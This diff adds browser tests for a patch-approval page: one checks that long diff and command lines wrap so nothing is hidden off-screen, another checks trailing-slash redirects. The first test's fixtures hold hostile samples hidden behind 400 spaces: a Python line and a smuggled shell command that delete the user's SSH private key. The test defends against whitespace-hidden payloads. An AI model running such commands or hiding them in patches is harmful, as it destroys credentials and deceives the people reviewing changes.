@@ -282,6 +282,60 @@ describe.skipIf(noBrowser !== null)("approval page", () => {
   );
 
   test(
+    "a patch line that runs past the edge of the diff is wrapped: nothing of the payload sits outside the view",
+    async () => {
+      // The diff was shown unwrapped (white-space: pre) in a box that scrolls sideways: a line of
+      // 400 blanks and then code read, on the page, as its harmless start, and the person approved
+      // what they could not see without scrolling the box. Error lines and commands already wrapped.
+      const hidden = `__import__("os").remove(__import__("os").path.expanduser("~/.ssh/id_ed25519"))`;
+      const trail = sampleTrail({
+        error: "ValueError: a patch line hidden off the edge of the approval page",
+        commands: [`pip install PyYAML==6.0.1${" ".repeat(400)}; rm -f ~/.ssh/id_ed25519`],
+      });
+      trail.solution.code_patches = [
+        {
+          file_path: "deploy/config.py",
+          language: "python",
+          diff: [
+            "--- a/deploy/config.py",
+            "+++ b/deploy/config.py",
+            "@@ -1,2 +1,2 @@",
+            " import os",
+            `+import yaml${" ".repeat(400)}; ${hidden}`,
+          ].join("\n"),
+        },
+      ];
+      const draft = await createDraft(trail);
+      for (const viewport of [LAPTOP, PHONE]) {
+        const context = await browser.newContext({ viewport });
+        const page = await context.newPage();
+        const problems = await watchPage(page);
+        await page.goto(draft.approve_url);
+        await page.locator("button.primary").waitFor();
+        const diff = page.locator(".diff");
+        expect(await diff.evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBeLessThanOrEqual(0);
+        // Every character of the added line is inside the diff's visible box.
+        const box = (await diff.boundingBox())!;
+        const added = page.locator(".line-add");
+        expect(await added.textContent()).toContain(hidden);
+        const right = await added.evaluate((line) => {
+          const range = document.createRange();
+          range.selectNodeContents(line);
+          return Math.max(...[...range.getClientRects()].filter((r) => r.width > 0).map((r) => r.right));
+        });
+        expect(right).toBeLessThanOrEqual(box.x + box.width + 1);
+        // Commands wrapped already: the same line as a command is seen whole too.
+        const command = page.locator("ol.commands > li pre").first();
+        expect(await command.evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBeLessThanOrEqual(0);
+        expect(await command.textContent()).toContain("rm -f ~/.ssh/id_ed25519");
+        expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
+        await context.close();
+      }
+    },
+    BROWSER_TEST_MS,
+  );
+
+  test(
     "discard: the page says nothing was published, also after a reload",
     async () => {
       const draft = await createDraft(sampleTrail({ error: "TypeError: Cannot read properties of undefined (reading 'map')" }));
@@ -354,6 +408,34 @@ describe.skipIf(noBrowser !== null)("approval page", () => {
       expect(await fresh.locator("button.secondary").isDisabled()).toBe(true);
       expect(await fresh.locator(".time-left").textContent()).toBe("0:00");
       await fresh.close();
+      await page.close();
+    },
+    BROWSER_TEST_MS,
+  );
+
+  test(
+    "a page asked for with a trailing slash is sent to its own path, fragment kept, and works",
+    async () => {
+      // The router served /approve.html/ and /console/ as the page, whose relative links then
+      // named /approve.html/approve.js and /approve.html/v1/drafts/…: a blank page.
+      const draft = await createDraft(sampleTrail({ error: "ValueError: the approval link with a trailing slash" }));
+      const page = await laptop.newPage();
+      const problems = await watchPage(page);
+      await page.goto(`${colony.url}/approve.html/#${draft.draft_id}`);
+      await page.locator("button.primary").waitFor();
+      expect(page.url()).toBe(draft.approve_url);
+      for (const [path, ready] of [
+        ["/console/", "#app"],
+        ["/docs/", "#routes"],
+      ] as const) {
+        await page.goto(`${colony.url}${path}`);
+        await page.locator(ready).waitFor();
+        expect(page.url()).toBe(`${colony.url}${path.slice(0, -1)}`);
+      }
+      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
+      const res = await colony.fetch("/console/", { redirect: "manual" });
+      expect([res.status, res.headers.get("location")]).toEqual([308, "../console"]);
+      expect(res.headers.get("RateLimit-Limit")).not.toBeNull();
       await page.close();
     },
     BROWSER_TEST_MS,
